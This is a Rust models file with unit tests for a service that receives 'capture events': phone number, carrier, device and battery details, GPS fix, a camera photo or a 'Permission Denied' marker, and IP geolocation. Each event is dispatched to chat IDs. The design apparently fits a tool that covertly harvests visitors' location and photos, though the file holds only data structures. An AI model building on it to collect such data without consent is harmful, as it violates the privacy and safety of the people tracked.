/// Domain models for the application
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// Inbound capture event. Every field is optional; absent values render
/// as "N/A" placeholders in the report.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub struct SubmissionPayload {
    pub mobile: Option<String>,
    pub country: Option<String>,
    pub operator: Option<String>,
    pub user_chat_id: Option<String>,
    pub device_info: Option<DeviceInfo>,
    pub location: Option<LocationFix>,
    /// Either a base64 data URI or the literal "Permission Denied".
    pub photo: Option<String>,
    /// Epoch milliseconds or an RFC 3339 string.
    pub timestamp: Option<Value>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub struct DeviceInfo {
    pub battery: Option<BatteryInfo>,
    pub connection: Option<ConnectionInfo>,
    pub timezone: Option<String>,
    pub user_agent: Option<String>,
    pub url: Option<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default)]
pub struct BatteryInfo {
    pub charging: Option<bool>,
    pub level: Option<f64>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default, rename_all = "camelCase")]
pub struct ConnectionInfo {
    pub effective_type: Option<String>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default)]
pub struct LocationFix {
    pub latitude: Option<f64>,
    pub longitude: Option<f64>,
    pub accuracy: Option<f64>,
}

/// IP-derived geolocation data as returned by ipinfo.io.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default)]
pub struct GeoInfo {
    pub ip: Option<String>,
    pub org: Option<String>,
    pub city: Option<String>,
    pub region: Option<String>,
    pub country: Option<String>,
}

impl GeoInfo {
    /// Fallback record substituted when the lookup fails. Every field is
    /// populated so the record is never partial.
    pub fn unknown() -> Self {
        let u = || Some("Unknown".to_string());
        Self {
            ip: u(),
            org: u(),
            city: u(),
            region: u(),
            country: u(),
        }
    }
}

/// Per-destination send outcome, returned verbatim to the caller.
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct DispatchResult {
    pub chat_id: String,
    pub success: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

/// Body of a successful submission response.
#[derive(Debug, Serialize)]
pub struct SubmitResponse {
    pub success: bool,
    pub message: &'static str,
    pub results: Vec<DispatchResult>,
}

/// Health check response
#[derive(Serialize)]
pub struct Health {
    pub status: &'static str,
    pub now: DateTime<Utc>,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_deserializes_from_empty_object() {
        let payload: SubmissionPayload = serde_json::from_str("{}").unwrap();
        assert!(payload.mobile.is_none());
        assert!(payload.device_info.is_none());
        assert!(payload.location.is_none());
    }

    #[test]
    fn payload_deserializes_camel_case_fields() {
        let payload: SubmissionPayload = serde_json::from_value(serde_json::json!({
            "mobile": "9999999999",
            "userChatId": "42",
            "deviceInfo": {
                "battery": { "charging": true, "level": 80 },
                "connection": { "effectiveType": "4g" },
                "userAgent": "Mozilla/5.0"
            }
        }))
        .unwrap();

        assert_eq!(payload.user_chat_id.as_deref(), Some("42"));
        let device = payload.device_info.unwrap();
        assert_eq!(device.battery.unwrap().level, Some(80.0));
        assert_eq!(
            device.connection.unwrap().effective_type.as_deref(),
            Some("4g")
        );
        assert_eq!(device.user_agent.as_deref(), Some("Mozilla/5.0"));
    }

    #[test]
    fn unknown_geo_populates_every_field() {
        let geo = GeoInfo::unknown();
        for field in [&geo.ip, &geo.org, &geo.city, &geo.region, &geo.country] {
            assert_eq!(field.as_deref(), Some("Unknown"));
        }
    }

    #[test]
    fn dispatch_result_skips_absent_error() {
        let ok = DispatchResult {
            chat_id: "1".into(),
            success: true,
            error: None,
        };
        let json = serde_json::to_value(&ok).unwrap();
        assert_eq!(json, serde_json::json!({"chatId": "1", "success": true}));
    }
}
